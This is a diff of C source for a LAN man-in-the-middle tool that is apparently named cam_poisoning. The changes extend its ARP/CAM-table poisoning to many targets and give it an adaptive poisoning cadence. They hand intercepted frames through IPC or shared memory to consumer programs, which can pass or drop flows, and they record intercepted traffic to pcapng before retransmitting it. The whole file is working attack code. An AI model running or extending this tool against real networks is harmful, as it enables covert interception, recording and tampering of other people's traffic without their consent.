@@ -6,20 +6,33 @@
 #include <unistd.h>
 #include <string.h>
 #include <errno.h>
+#include <signal.h>
+
+#include <time.h>
 
 #include <sys/epoll.h>
+#include <sys/socket.h>
+
+#include <linux/if_packet.h>
 
 // local headers
 #include <arp.h>
+#include <classify.h>
+#include <flow.h>
+#include <histo.h>
 #include <iface.h>
 #include <logger.h>
+#include <pcapng.h>
+#include <probes.h>
+#include <retransmit.h>
 #include <utils.h>
+#include <vclock.h>
 
 
 /****************************
  * Message queue management *
  ****************************/
-void static inline init_queue(struct queue *q) {
+void inline init_queue(struct queue *q) {
 	q->entries = (struct qlist*) malloc(
 			QUEUE_INIT_SIZE * sizeof(struct qlist)
 			);
@@ -29,9 +42,11 @@ void static inline init_queue(struct queue *q) {
 	}
 	q->count = 0;
 	q->size = QUEUE_INIT_SIZE;
+	q->queued = 0;
+	q->drops = 0;
 	log_debug("Message queue initialized\n");
 }
-void static inline free_queue(struct queue *q) {
+void inline free_queue(struct queue *q) {
 	int i, j;
 	// free all queued messages
 	for (i=0; i<q->count; i++) {
@@ -49,7 +64,7 @@ void static inline free_queue(struct queue *q) {
 /*
  * Find the right qlist entry or create one
  */
-struct qlist static inline *queue_get_entry(struct queue *q,
+struct qlist inline *queue_get_entry(struct queue *q,
 		uint8_t dest[ETH_ALEN]) {
 	int i;
 	struct qlist *cur_entry;
@@ -84,7 +99,8 @@ struct qlist static inline *queue_get_entry(struct queue *q,
 /*
  * Queue the message in the right queue_list
  */
-int static inline queue_message(struct queue *q, void *buf, size_t buflen) {
+int inline queue_message(struct queue *q, void *buf, size_t buflen,
+		const struct timespec *rx_ts) {
 	int i;
 	struct qlist *cur_entry;
 	struct ether_header *eh;
@@ -97,6 +113,7 @@ int static inline queue_message(struct queue *q, void *buf, size_t buflen) {
 	cur_entry = queue_get_entry(q, eh->ether_dhost);
 	if (cur_entry == NULL) {
 		// failed to create the entry (mainly due to memory)
+		q->drops++;
 		return 0;
 	}
 
@@ -105,53 +122,145 @@ int static inline queue_message(struct queue *q, void *buf, size_t buflen) {
 		msg = (uint8_t *) malloc(buflen);
 		if (msg == NULL) {
 			perror("Could not allocate memory to queue message");
+			q->drops++;
 			return 0;
 		}
 		memcpy(msg , buf, buflen);
+		clock_now(CLOCK_MONOTONIC, &cur_entry->messages[cur_entry->count].ts);
+		cur_entry->messages[cur_entry->count].rx_ts = *rx_ts;
 		cur_entry->messages[cur_entry->count].buf = msg;
 		cur_entry->messages[cur_entry->count++].len = buflen;
+		q->queued++;
+		PROBE3(frame__queued, eh->ether_dhost, buflen, TS_TO_NS(*rx_ts));
 
 		log_debug("Message queued\n");
 		return 1;
 	} else {
 		log_warning("Could not queue the message because the queue is full\n");
+		q->drops++;
 		return 0;
 	}
 }
 
 // Some inline function (for speed) which compose launch_attack()
-int static inline poison_mac(int sock, struct iface *iface,
-		uint8_t mac[ETH_ALEN]) {
-	struct arp_pkt req;
+#define POISON_DEFERRED -1	// a worker is restoring the target: retry later
 
-	// create the poisoning arp request
-	if (!arp_poison(iface, mac, &req, sizeof(req))) {
-		log_error("Failed to craft an poisoning arp request\n");
-		return 0;
-	}
-	// send it
-	if (send(sock, &req, sizeof(req), 0) == -1) {
+int static inline poison_target(int sock, struct target *target) {
+	// never between the restoration of the target and the retransmission of
+	// its frames, see retransmit.h. The capture thread does not wait for it
+	if (target->dest != NULL && pthread_mutex_trylock(&target->dest->busy))
+		return POISON_DEFERRED;
+
+	// the poisoning arp request was crafted when adding the target
+	if (send(sock, &target->poison, sizeof(target->poison), 0) == -1) {
 		perror("Error while sending arp");
+		if (target->dest != NULL)
+			pthread_mutex_unlock(&target->dest->busy);
 		return 0;
 	}
+	if (target->dest != NULL)
+		pthread_mutex_unlock(&target->dest->busy);
+	target->poisoned++;
+	PROBE3(poison__sent, target->ip.s_addr, target->mac, target->poisoned);
 	return 1;
 }
 
-int static inline receive_messages(int epollfd, struct ipc *ipc,
-		struct iface *iface, struct queue *q, int duration,
-		uint8_t h1[ETH_ALEN], uint8_t h2[ETH_ALEN]) {
+/*
+ * Adaptive cadence (see poison.h), only used by the capture thread.
+ * Return 1 if the next poisoning was brought forward
+ */
+int static inline target_seen(struct cb_args *cb_args, struct target *t,
+		uint64_t now_ms) {
+	int floor = cb_args->opts->floor, ret;
+
+	t->last_seen = now_ms;
+	if (now_ms - t->last_poison >= (uint64_t) floor) {
+		if ((ret = poison_target(cb_args->sock, t)) == 1) {
+			t->reclaimed++;
+			t->last_poison = now_ms;
+			timer_add(cb_args->wheel, &t->timer, now_ms + t->interval);
+		} else if (ret == POISON_DEFERRED) {
+			timer_add(cb_args->wheel, &t->timer, now_ms + 1);
+			return 1;
+		}
+	} else if (t->timer.expires > t->last_poison + floor) {
+		// poisoned too recently: as soon as allowed
+		timer_add(cb_args->wheel, &t->timer, t->last_poison + floor);
+		return 1;
+	}
+	return 0;
+}
+
+void static inline adapt_interval(struct target *t, uint64_t now_ms,
+		struct attack_opts *opts) {
+	uint64_t interval = (now_ms - t->last_seen) / POISON_RATE_FACTOR;
+
+	if (interval < (uint64_t) opts->floor)
+		interval = opts->floor;
+	else if (interval > (uint64_t) opts->ceiling)
+		interval = opts->ceiling;
+	t->interval = interval;
+}
+
+/*
+ * Poisoning deadlines of the targets, on the timer wheel of the capture
+ * thread
+ */
+struct poison_args {
+	int sock;
+	struct attack_opts *opts;
+	struct timer_wheel *wheel;
+	struct lat_stats *cadence;
+	uint64_t now;				// in ns
+};
+
+void static poison_expired(void *data, void *args) {
+	struct target *t = data;
+	struct poison_args *p = args;
+	uint64_t now_ms = p->now / 1000000, deadline = t->timer.expires * 1000000;
+	uint64_t next;
+	int ret;
+
+	// on the next tick, once the worker is done with the target
+	if ((ret = poison_target(p->sock, t)) == POISON_DEFERRED) {
+		timer_add(p->wheel, &t->timer, now_ms + 1);
+		return;
+	}
+
+	// the error of the cadence is the delay after the deadline
+	lat_stats_add(p->cadence, p->now > deadline ? p->now - deadline : 0);
+	histo_record(STAGE_CADENCE, p->now > deadline ? p->now - deadline : 0);
+
+	if (p->opts->adaptive)
+		adapt_interval(t, now_ms, p->opts);
+	if (ret)
+		t->last_poison = now_ms;
+
+	// from the deadline: the cadence does not drift
+	next = t->timer.expires + t->interval;
+	timer_add(p->wheel, &t->timer, next > now_ms ? next : now_ms + t->interval);
+}
+
+int static inline receive_messages(int epollfd, int sock, struct ipc *ipc,
+		struct iface *iface, struct queue *q, int duration, int spin,
+		struct classifier *classifier, struct rx_batch *batch,
+		struct stat_counters *stats, struct attack_opts *opts,
+		struct timer_wheel *wheel) {
 
 	// prepare the args structure for the callback
 	struct cb_args args;
 	args.queue = q;
-	args.h1 = h1;
-	args.h2 = h2;
-	args.local = iface->hwaddr;
+	args.stats = stats;
+	args.classifier = classifier;
 	args.ipc = ipc;
+	args.epollfd = epollfd;
+	args.sock = sock;
+	args.opts = opts;
+	args.wheel = wheel;
 
 	// receive all messages for the duraction
-	switch (recvfrom_multiple_with_timeout(epollfd, duration,
-				&receive_messages_callback, &args)) {
+	switch (recvmmsg_multiple_with_timeout(epollfd, duration, spin, batch,
+				&receive_messages_callback, &receive_ipc_callback, &args)) {
 		case -1:
 			// error
 			return 0;	// stop here with an error
@@ -162,75 +271,239 @@ int static inline receive_messages(int epollfd, struct ipc *ipc,
 			return 1;	// stop here with a success
 	}
 }
-int receive_messages_callback(void *buf, ssize_t buflen,
-		struct sockaddr *addr, socklen_t addr_l, void *args) {
+/*
+ * A consumer asks for the shared-memory transport. Unknown programs join the
+ * consumers
+ */
+void static inline accept_shm(struct cb_args *cb_args,
+		struct sockaddr_un *addr) {
+	struct epoll_event ev;
+	struct ipc_consumer *consumer;
+	int doorbell;
+
+	if ((consumer = add_ipc_consumer(cb_args->ipc, addr->sun_path, 0))
+			== NULL)
+		return;
+	if ((doorbell = accept_shm_ipc(cb_args->ipc, consumer)) == -1)
+		return;
+
+	// the previous doorbell, if any, left the epoll when closed
+	memset(&ev, 0, sizeof(struct epoll_event));
+	ev.events = EPOLLIN;
+	ev.data.u64 = RX_EVENT_TAG | (uint32_t) doorbell;
+	if (epoll_ctl(cb_args->epollfd, EPOLL_CTL_ADD, doorbell, &ev) == -1) {
+		perror("Failed to add the shared memory doorbell to the epoll");
+	}
+}
+
+/*
+ * Frames received from the IPC, in any format
+ */
+void static inline queue_ipc_frame(void *buf, size_t len, uint64_t ts,
+		void *args) {
+	struct cb_args *cb_args = args;
+	struct ether_header *eh = (struct ether_header *) buf;
+	struct timespec rx_ts;
+
+	if (len < sizeof(struct ether_header)) {
+		return;
+	}
+	log_debug("New message from IPC: "
+			"%02x:%02x:%02x:%02x:%02x:%02x -> "
+			"%02x:%02x:%02x:%02x:%02x:%02x [%04x]\n",
+			eh->ether_shost[0], eh->ether_shost[1],
+			eh->ether_shost[2], eh->ether_shost[3],
+			eh->ether_shost[4], eh->ether_shost[5],
+			eh->ether_dhost[0], eh->ether_dhost[1],
+			eh->ether_dhost[2], eh->ether_dhost[3],
+			eh->ether_dhost[4], eh->ether_dhost[5],
+			ntohs(eh->ether_type));
+
+	// the capture time travelled with the frame, unless it came raw
+	if (ts != 0) {
+		rx_ts.tv_sec = ts / 1000000000;
+		rx_ts.tv_nsec = ts % 1000000000;
+	} else {
+		clock_now(CLOCK_REALTIME, &rx_ts);
+	}
+	queue_message(cb_args->queue, buf, len, &rx_ts);
+}
+
+int receive_messages_callback(struct rx_batch *batch, void *args) {
 	// cast args
 	struct cb_args *cb_args = args;
+	struct sockaddr_ll *addr;
+	struct ether_header *eh;
+	struct ipc_frame_info info;
+	struct flow_table *flows = cb_args->ipc->flows;
+	struct flow_key key;
+	struct target *target;
+	struct timespec now;
+	uint64_t now_ms;
+	int i, verdict, wake = 0;
+
+	// routes of the frames of the batch
+	uint8_t routes[RX_BATCH_SIZE];
+	int32_t match[RX_BATCH_SIZE];
+
+	if (batch->count == 0) {
+		return 0;
+	}
+
+	// If the frame goes to one of the targets, we send the frame
+	// through the IPC.
+	// If it goes to the local interface, we dont treat it
+	// Else we queue it for later retransmission if its a unicast frame
+	classify_batch(cb_args->classifier, batch, routes, match);
+	clock_now(CLOCK_MONOTONIC, &now);
+	now_ms = TS_TO_MS(now);
+	cb_args->stats->captured += batch->count;
+	PROBE1(frame__batch, batch->count);
+
+	for (i = 0; i < batch->count; i++) {
+		cb_args->stats->routes[routes[i]]++;
+		PROBE5(frame__classified, batch->bufs[i], batch->bufs[i] + ETH_ALEN,
+				batch->lens[i], routes[i], TS_TO_NS(batch->ts[i]));
+		if (routes[i] == ROUTE_IGNORE) {
+			continue;
+		}
+
+		eh = (struct ether_header *) batch->bufs[i];
+		log_debug("New message from network interface: "
+				"%02x:%02x:%02x:%02x:%02x:%02x -> "
+				"%02x:%02x:%02x:%02x:%02x:%02x [%04x]\n",
+				eh->ether_shost[0], eh->ether_shost[1],
+				eh->ether_shost[2], eh->ether_shost[3],
+				eh->ether_shost[4], eh->ether_shost[5],
+				eh->ether_dhost[0], eh->ether_dhost[1],
+				eh->ether_dhost[2], eh->ether_dhost[3],
+				eh->ether_dhost[4], eh->ether_dhost[5],
+				ntohs(eh->ether_type));
+
+		// the intercepted frames only
+		if (pcapng_enabled() && (routes[i] == ROUTE_IPC
+					|| routes[i] == ROUTE_QUEUE)) {
+			pcapng_record(batch->bufs[i], batch->lens[i],
+					batch->orig_lens[i], TS_TO_NS(batch->ts[i]),
+					PCAPNG_INBOUND);
+		}
 
-	if (addr->sa_family == AF_UNIX) {			// received from the IPC
-		// Consider the empty datagram as flush request
-		if (buflen == 0) {
-			log_debug("Received a flushing request\n");
-			return 1;	// to flush, just force recvfrom to end
-		} else if (buflen >= sizeof(struct ether_header)) { // ensure valid eth
-			// cast to ethernet
-			struct ether_header *eh = (struct ether_header *)buf;
-			log_debug("New message from IPC: "
-					"%02x:%02x:%02x:%02x:%02x:%02x -> "
-					"%02x:%02x:%02x:%02x:%02x:%02x [%04x]\n",
-					eh->ether_shost[0], eh->ether_shost[1],
-					eh->ether_shost[2], eh->ether_shost[3],
-					eh->ether_shost[4], eh->ether_shost[5],
-					eh->ether_dhost[0], eh->ether_dhost[1],
-					eh->ether_dhost[2], eh->ether_dhost[3],
-					eh->ether_dhost[4], eh->ether_dhost[5],
-					ntohs(eh->ether_type));
-
-			queue_message(cb_args->queue, buf, buflen);
+		// a target talked: its MAC address is back on its port. Our own
+		// restorations are answered to the local interface
+		if (cb_args->opts->adaptive && routes[i] != ROUTE_LOCAL &&
+				(target = target_table_lookup(cb_args->classifier->targets,
+					eh->ether_shost)) != NULL) {
+			wake |= target_seen(cb_args, target, now_ms);
 		}
-	} else if (addr->sa_family == AF_PACKET) {	// received from the network
-		// cast to ethernet frame
-		struct ether_header *eh = (struct ether_header *)buf;
-		struct sockaddr_ll *recvaddr = (struct sockaddr_ll *)addr;
-
-		// Only treat incoming ethernet frames
-		if (recvaddr->sll_pkttype != PACKET_OUTGOING &&
-				buflen >= sizeof(struct ether_header)) {	// prevent OOB read
-
-			log_debug("New message from network interface: "
-					"%02x:%02x:%02x:%02x:%02x:%02x -> "
-					"%02x:%02x:%02x:%02x:%02x:%02x [%04x]\n",
-					eh->ether_shost[0], eh->ether_shost[1],
-					eh->ether_shost[2], eh->ether_shost[3],
-					eh->ether_shost[4], eh->ether_shost[5],
-					eh->ether_dhost[0], eh->ether_dhost[1],
-					eh->ether_dhost[2], eh->ether_dhost[3],
-					eh->ether_dhost[4], eh->ether_dhost[5],
-					ntohs(eh->ether_type));
-
-			// If the frame goes to one of the hosts, we send the frame
-			// through the IPC.
-			// If it goes to the local interface, we dont treat it
-			// Else we queue it for later retransmission
-			if (ETHER_CMP(eh->ether_dhost, cb_args->h1) ||
-					ETHER_CMP(eh->ether_dhost, cb_args->h2)) {
+
+		switch (routes[i]) {
+			case ROUTE_IPC:
+				target = &cb_args->classifier->targets->targets[match[i]];
+				target->intercepted++;
+				target->last_seen = now_ms;
+
+				// the consumer may already have decided for this flow
+				flow_key_from_frame(batch->bufs[i], batch->lens[i], &key);
+				info.hash = flow_hash(&key);
+				verdict = flows == NULL ? FLOW_VERDICT_NONE
+					: flow_table_lookup(flows, &key, info.hash, now_ms);
+				if (verdict == FLOW_VERDICT_PASS) {
+					flows->passed++;
+					queue_message(cb_args->queue, batch->bufs[i],
+							batch->lens[i], &batch->ts[i]);
+					break;
+				} else if (verdict == FLOW_VERDICT_DROP) {
+					flows->dropped++;
+					log_debug("Frame dropped by the flow verdict\n");
+					break;
+				}
+
 				// send through IPC
-				if (sendto_ipc(cb_args->ipc, buf, buflen) == -1) {
-					perror("Failed to send frame through IPC");
+				addr = (struct sockaddr_ll *) &batch->addrs[i];
+				info.ts = batch->ts[i];
+				info.orig_len = batch->orig_lens[i];
+				info.ifindex = addr->sll_ifindex;
+				info.target = match[i];
+				switch (sendto_ipc(cb_args->ipc, batch->bufs[i],
+							batch->lens[i], &info)) {
+					case IPC_ERROR:
+						perror("Failed to send frame through IPC");
+						break;
+					case IPC_FORWARD:
+						// the consumer is overloaded: let the frame through
+						queue_message(cb_args->queue, batch->bufs[i],
+								batch->lens[i], &batch->ts[i]);
+						break;
 				}
-			} else if (ETHER_CMP(eh->ether_dhost, cb_args->local)) {
+				break;
+			case ROUTE_QUEUE:
+				queue_message(cb_args->queue, batch->bufs[i],
+						batch->lens[i], &batch->ts[i]);
+				break;
+			case ROUTE_LOCAL:
 				log_debug("Frame for the local interface discarded\n");
+				break;
+			default:
+				log_debug("Multicast ethernet frame discarded\n");
+				break;
+		}
+	}
+	// one message (or one wake-up) for the whole batch
+	flush_ipc(cb_args->ipc);
+	// a poisoning may now be due before the end of the receive loop
+	return wake;
+}
+
+/*
+ * Messages from the IPC socket or the shared memory
+ */
+int receive_ipc_callback(int fd, void *args) {
+	struct cb_args *cb_args = args;
+	struct ipc *ipc = cb_args->ipc;
+	struct ipc_consumer *consumer;
+	struct sockaddr_un addr;
+	socklen_t addr_l;
+	ssize_t len;
+	uint32_t slot_len, flags;
+	void *slot;
+	int i, flush = 0;
+
+	if (fd == ipc->sock) {
+		// bounded, not to starve the capture
+		for (i = 0; i < RX_BATCH_SIZE; i++) {
+			addr_l = sizeof(addr);
+			len = recvfrom(ipc->sock, ipc->rxbuf, IPC_MSG_MAX_SIZE,
+					MSG_DONTWAIT, (struct sockaddr *) &addr, &addr_l);
+			if (len == -1) {
+				if (errno != EAGAIN && errno != EWOULDBLOCK)
+					perror("Error while reading IPC");
+				break;
+			}
+
+			if (shm_parse_handshake(ipc->rxbuf, len) == SHM_MAGIC_REQUEST) {
+				accept_shm(cb_args, &addr);
 			} else {
-				// other Ethernet frame => queue if its a unicast frame
-				if ((eh->ether_dhost[0] & 0x01) == 0x00) {
-					queue_message(cb_args->queue, buf, buflen);
-				} else {
-					log_debug("Multicast ethernet frame discarded\n");
-				}
+				flush |= handle_ipc_message(ipc, &addr, ipc->rxbuf, len,
+						&queue_ipc_frame, cb_args);
+				reap_ipc_consumers(ipc);
 			}
 		}
+	} else if ((consumer = find_ipc_doorbell(ipc, fd)) != NULL) {
+		do {
+			while ((slot = shm_peek(&consumer->shm, SHM_FROM_CONSUMER,
+							&slot_len, &flags)) != NULL) {
+				flush |= handle_ipc_message(ipc, &consumer->remote,
+						slot, slot_len, &queue_ipc_frame, cb_args);
+				shm_release(&consumer->shm, SHM_FROM_CONSUMER);
+				// the consumer may have left: its region is unmapped now
+				if (consumer->leaving) {
+					reap_ipc_consumers(ipc);
+					return flush;
+				}
+			}
+		} while (shm_prepare_wait(&consumer->shm, SHM_FROM_CONSUMER, 1));
 	}
-	return 0;	// continue the recvfrom loop
+	return flush;	// to flush, just force the receive loop to end
 }
 
 /*
@@ -265,13 +538,15 @@ int static inline restore_mac_async(int sock,
 	return 1;
 }
 
-int static inline restore_mac(int sock, struct queue *q,
-		struct iface *iface, uint8_t mac[ETH_ALEN]) {
+int static inline try_restore_mac(int sock, struct iface *iface,
+		uint8_t mac[ETH_ALEN], int *timeouts) {
 	int i;
 	struct arp_pkt req;
 	struct cb_args args;
 	args.ip = arp_cache_search_ip(mac);
-	args.queue = q;
+	args.queue = NULL;
+	args.stats = NULL;
+	*timeouts = 0;
 
 	// check the MAC address is in the local ARP cache
 	if (args.ip == NULL) {
@@ -306,6 +581,7 @@ int static inline restore_mac(int sock, struct queue *q,
 				return 0;	// stop here with an error
 			case 0:
 				// timeout
+				(*timeouts)++;
 				continue;	// retry with next ARP request
 			default:
 				// recvfrom found the right packet
@@ -318,11 +594,22 @@ int static inline restore_mac(int sock, struct queue *q,
 	return 0;
 }
 
+int restore_mac(int sock, struct iface *iface, uint8_t mac[ETH_ALEN],
+		int *timeouts) {
+	int restored;
+
+	PROBE1(restore__start, mac);
+	restored = try_restore_mac(sock, iface, mac, timeouts);
+	PROBE3(restore__done, mac, restored, *timeouts);
+	return restored;
+}
+
 /*
  * Callback for recvfrom_with_timeout
- * It may either queue the message or stop reading if it is not the expected
- * response.
- * args should be a pointer to a struct in_addr which is the requested IP
+ * It stops reading once the expected response is received. Other frames are
+ * ignored: they are handled by the capture loop which keeps running during
+ * restorations.
+ * args should be a pointer to a struct cb_args whose ip is the requested IP
  */
 int restore_mac_callback(void *buf, ssize_t buflen,
 		struct sockaddr *addr, socklen_t addr_l, void *args) {
@@ -354,23 +641,35 @@ int restore_mac_callback(void *buf, ssize_t buflen,
 				log_debug("Received ARP reply which restored CAM tables\n");
 				return 1;
 			}
-		} else {
-			// other Ethernet frame => just queue it
-			queue_message(cb_args->queue, buf, buflen);
 		}
 	}
 	return 0;	// continue the recvfrom loop
 }
 
-int static inline retransmit_one(int sock, struct iface *iface,
-		struct message *msg) {
+int retransmit_one(int sock, struct iface *iface, struct message *msg,
+		uint32_t *tx_key, struct timespec *tx_ts) {
 	struct ether_header *eth = (struct ether_header *) msg->buf;
+	ssize_t ret;
 
-	// Send the message
-	if (send(sock, eth, msg->len, 0) == -1) {
+	// Send the message, with its kernel timestamp only if someone needs it:
+	// reading it costs system calls
+	if (tx_key != NULL) {
+		ret = super_socket_send_timestamped(sock, eth, msg->len, tx_key,
+				tx_ts);
+	} else {
+		ret = send(sock, eth, msg->len, 0);
+		clock_now(CLOCK_REALTIME, tx_ts);
+	}
+	if (ret == -1) {
 		perror("Error while retransmitting the message");
 		return 0;
 	}
+	PROBE5(frame__retransmitted, eth->ether_dhost, eth->ether_shost,
+			msg->len, TS_TO_NS(msg->rx_ts), TS_TO_NS(*tx_ts));
+	if (pcapng_enabled()) {
+		pcapng_record(msg->buf, msg->len, msg->len, TS_TO_NS(*tx_ts),
+				PCAPNG_OUTBOUND);
+	}
 
 	log_debug("Message retransmitted %02x:%02x:%02x:%02x:%02x:%02x -> "
 			"%02x:%02x:%02x:%02x:%02x:%02x [%04x]\n",
@@ -390,40 +689,202 @@ int static inline retransmit_one(int sock, struct iface *iface,
 	return 1;	// success
 }
 
-int static inline retransmit_all(int sock, struct iface *iface,
-		struct queue *old_q, struct queue *new_q) {
-	int i, j;
-	// iterate over each qlist of the old queue
-	for (i = 0; i < old_q->count; i++) {
-		if (old_q->entries[i].count > 0) {
-			// first restore MAC
-			if (!restore_mac(sock, new_q, iface, old_q->entries[i].dest)) {
-				log_error("Skip retransmission: packets will be lost\n");
-				continue;
-			}
-			// then retransmit all frames
-			for (j = 0; j < old_q->entries[i].count; j++) {
-				if (!retransmit_one(sock, iface,
-							&old_q->entries[i].messages[j])) {
-					log_warning("Could not retransmit one message\n");
-				}
-			}
+/*
+ * Low-latency mode set-up: busy polling, CPU pinning & real-time scheduling
+ */
+void static inline setup_lowlat(struct lowlat_opts *lowlat, int sock,
+		struct rt_pool *pool) {
+	int i;
+
+	if (lowlat->busy_poll > 0) {
+		super_socket_busy_poll(sock, lowlat->busy_poll);
+	}
+
+	// first CPU for the capture & poisoning thread, the next ones are
+	// shared by the workers
+	if (lowlat->ncpus > 0) {
+		pin_thread(pthread_self(), lowlat->cpus[0]);
+	}
+	if (lowlat->ncpus > 1) {
+		for (i = 0; i < pool->nworkers; i++) {
+			pin_thread(pool->workers[i].thread,
+					lowlat->cpus[1 + i % (lowlat->ncpus - 1)]);
+		}
+	}
+
+	// workers were started before: they keep the default scheduling
+	if (lowlat->rt_priority > 0) {
+		if (lowlat->ncpus == 0) {
+			log_warning("Real-time scheduling without pinning the poisoning "
+					"thread may starve the system\n");
 		}
+		set_realtime(lowlat->rt_priority);
+	}
+}
+
+void static inline report_lowlat(struct lat_stats *cadence,
+		struct rt_pool *pool) {
+	int i;
+	struct lat_stats latency, residence;
+
+	lat_stats_init(&latency);
+	lat_stats_init(&residence);
+	for (i = 0; i < pool->nworkers; i++) {
+		lat_stats_merge(&latency, &pool->workers[i].latency);
+		lat_stats_merge(&residence, &pool->workers[i].residence);
 	}
+	lat_stats_report("Poison cadence jitter", cadence);
+	lat_stats_report("Added per-frame latency", &latency);
+	lat_stats_report("Wire-to-wire residence time", &residence);
 }
 
-void launch_attack(struct iface *iface, struct ipc *ipc, int freq,
-		struct in_addr h1, struct in_addr h2) {
+/*
+ * Gather the counters of all stages into the statistics page. The capture
+ * counters are kept up to date by the callbacks
+ */
+void static inline publish_stats(struct stat_page *page,
+		struct stat_counters *counters, int sock, struct queue *q,
+		struct ipc *ipc, struct rt_pool *pool, struct target_table *targets) {
+	struct tpacket_stats kstats;
+	socklen_t len = sizeof(kstats);
+	struct ipc_stats *stats;
+	size_t i;
+	int j;
+
+	// the kernel resets its counters on each read
+	if (getsockopt(sock, SOL_PACKET, PACKET_STATISTICS, &kstats, &len) == 0) {
+		counters->kernel_packets += kstats.tp_packets;
+		counters->kernel_drops += kstats.tp_drops;
+	}
+
+	counters->queued = q->queued;
+	counters->queue_drops = q->drops;
+
+	counters->ipc_sent = ipc->departed.frames_sent;
+	counters->ipc_received = ipc->departed.frames_received;
+	counters->ipc_drops = ipc->departed.drops;
+	counters->ipc_forwarded = ipc->departed.forwarded;
+	for (j = 0; j < ipc->count; j++) {
+		stats = &ipc->consumers[j]->stats;
+		counters->ipc_sent += stats->frames_sent;
+		counters->ipc_received += stats->frames_received;
+		counters->ipc_drops += stats->drops;
+		counters->ipc_forwarded += stats->forwarded;
+	}
+	counters->ipc_no_consumer = ipc->drops;
+	counters->consumers = ipc->count;
+	if (ipc->flows != NULL) {
+		counters->verdict_passed = ipc->flows->passed;
+		counters->verdict_dropped = ipc->flows->dropped;
+	}
+
+	retransmit_counters(pool, counters);
+
+	counters->poisoned = 0;
+	for (i = 0; i < targets->count; i++)
+		counters->poisoned += targets->targets[i].poisoned;
+	counters->arp_cache = arp_cache.count;
+
+	statpage_publish(page, counters);
+}
+
+/*
+ * Signals: SIGUSR1 dumps the latency histograms, SIGINT & SIGTERM stop the
+ * attack (the histograms are dumped too)
+ */
+static volatile sig_atomic_t stop_attack = 0;
+static volatile sig_atomic_t dump_histos = 0;
+
+void static stop_handler(int sig) {
+	stop_attack = 1;
+}
+
+void static dump_handler(int sig) {
+	dump_histos = 1;
+}
+
+void static inline setup_signals(void) {
+	struct sigaction sa;
+
+	// no SA_RESTART: the receive loop must see the signal
+	memset(&sa, 0, sizeof(sa));
+	sigemptyset(&sa.sa_mask);
+	sa.sa_handler = &stop_handler;
+	sigaction(SIGINT, &sa, NULL);
+	sigaction(SIGTERM, &sa, NULL);
+	sa.sa_handler = &dump_handler;
+	sigaction(SIGUSR1, &sa, NULL);
+}
+
+void launch_attack(struct iface *iface, struct ipc *ipc,
+		struct attack_opts *opts, struct target_table *targets) {
+	size_t i;
+
 	// open the super socket for injection
 	int sock = super_socket(iface, SOCK_RAW, ETH_P_ALL);
 
 	// create the message queue
-	struct queue current_q, old_q;
+	struct queue current_q;
 	init_queue(&current_q);
 
-	// resolve IP addresses to MAC addressess
-	uint8_t *h1_mac = arp_cache_search_mac(h1);
-	uint8_t *h2_mac = arp_cache_search_mac(h2);
+	// frames are received and classified by batch
+	struct classifier classifier;
+	struct rx_batch *batch = (struct rx_batch *) malloc(sizeof(struct rx_batch));
+	if (batch == NULL) {
+		perror("Cannot allocate memory for the reception batch");
+		exit(1);
+	}
+	init_classifier(&classifier, targets, iface->hwaddr);
+
+	// verdicts of the consumers on flows
+	struct flow_table flows;
+	flow_table_init(&flows, FLOW_TABLE_SIZE);
+	ipc->flows = &flows;
+
+	// start the retransmission workers
+	struct rt_pool pool;
+	// the transmission timestamps are only read for the residence time of
+	// the low-latency mode and for the recording
+	init_retransmit_pool(&pool, iface, opts->workers,
+			opts->lowlat.enabled || pcapng_enabled());
+
+	// live statistics, for cam_poisoning-stat
+	struct stat_counters counters;
+	struct stat_page *page = statpage_create(STATS_PATH);
+	memset(&counters, 0, sizeof(struct stat_counters));
+	if (page == NULL) {
+		log_warning("Live statistics are not published\n");
+	}
+
+	// timing of the poisoning phases
+	struct timespec poison_t, report_t, stats_t;
+	struct lat_stats cadence;
+	lat_stats_init(&cadence);
+	clock_now(CLOCK_MONOTONIC, &report_t);
+	stats_t = report_t;
+
+	// poisoning deadlines (and flow verdicts TTLs) on a timer wheel. All
+	// targets are due now; with the adaptive cadence, they start at the
+	// fixed one
+	struct timer_wheel wheel;
+	struct target *target;
+	struct poison_args poison_args = { sock, opts, &wheel, &cadence, 0 };
+	int duration;
+	timer_wheel_init(&wheel, TS_TO_MS(report_t));
+	flows.wheel = &wheel;
+	for (i = 0; i < targets->count; i++) {
+		target = &targets->targets[i];
+		target->last_seen = TS_TO_MS(report_t);
+		target->interval = opts->freq;
+		target->dest = retransmit_dest(&pool, target->mac);
+		timer_init(&target->timer, &poison_expired, target);
+		timer_add(&wheel, &target->timer, TS_TO_MS(report_t));
+	}
+
+	if (opts->lowlat.enabled) {
+		log_info("Low-latency mode enabled\n");
+		setup_lowlat(&opts->lowlat, sock, &pool);
+	}
 
 	// prepare the epoll structure to read both sock & ipc
 	struct epoll_event ev;
@@ -442,51 +903,100 @@ void launch_attack(struct iface *iface, struct ipc *ipc, int freq,
 		exit(1);
 	}
 
+	// the IPC is not read by batch of frames
 	memset(&ev, 0, sizeof(struct epoll_event));
 	ev.events = EPOLLIN;
-	ev.data.fd = ipc->sock;
+	ev.data.u64 = RX_EVENT_TAG | (uint32_t) ipc->sock;
 	if (epoll_ctl(epollfd, EPOLL_CTL_ADD, ipc->sock, &ev) == -1) {
 		perror("Failed to add the IPC to the epoll");
 		exit(1);
 	}
 
 	// poisoning loop
+	setup_signals();
 	log_info("Start poisoning attack\n");
-	log_debug("Attack frequency is %ims\n", freq);
-	while (1) {
-		// poison both hosts' MAC addresses
-		log_debug("Launch poisoning ARP requests\n");
-		if (!poison_mac(sock, iface, h1_mac) ||
-				!poison_mac(sock, iface, h2_mac)) {
-			continue; // stop there on failure
+	log_debug("Attack frequency is %ims\n", opts->freq);
+	while (!stop_attack) {
+		if (dump_histos) {
+			dump_histos = 0;
+			histo_dump();
+		}
+
+		clock_now(CLOCK_MONOTONIC, &poison_t);
+
+		if (opts->lowlat.enabled &&
+				TS_DIFF_IN_MS(poison_t, report_t) >= LOWLAT_REPORT_INTERVAL) {
+			report_lowlat(&cadence, &pool);
+			report_t = poison_t;
+		}
+
+		if (page != NULL &&
+				TS_DIFF_IN_MS(poison_t, stats_t) >= STATPAGE_INTERVAL) {
+			publish_stats(page, &counters, sock, &current_q, ipc, &pool,
+					targets);
+			stats_t = poison_t;
 		}
 
-		// Read incoming messages for the given duration
+		// poison the targets due, expire the flow verdicts
+		log_debug("Launch poisoning ARP requests\n");
+		poison_args.now = TS_TO_NS(poison_t);
+		timer_wheel_advance(&wheel, TS_TO_MS(poison_t), &poison_args);
+
+		// Read incoming messages until the next deadline, but retransmit
+		// the queued frames at least at the given frequency
 		log_debug("Read incoming frames\n");
